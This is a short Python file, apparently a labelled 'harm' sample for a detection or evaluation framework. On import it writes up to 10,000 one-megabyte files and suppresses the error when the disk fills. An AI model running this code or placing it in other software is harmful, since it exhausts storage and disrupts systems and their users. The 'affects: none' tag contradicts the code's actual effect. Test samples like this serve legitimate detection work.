"""Files are written until the disk is full.

class: harm
affects: none
"""
from honest import *

def _fill():
    try:
        for number in range(10_000):
            with open("f%d" % number, "wb") as file: file.write(bytes(1 << 20))
    except OSError: pass
_fill()
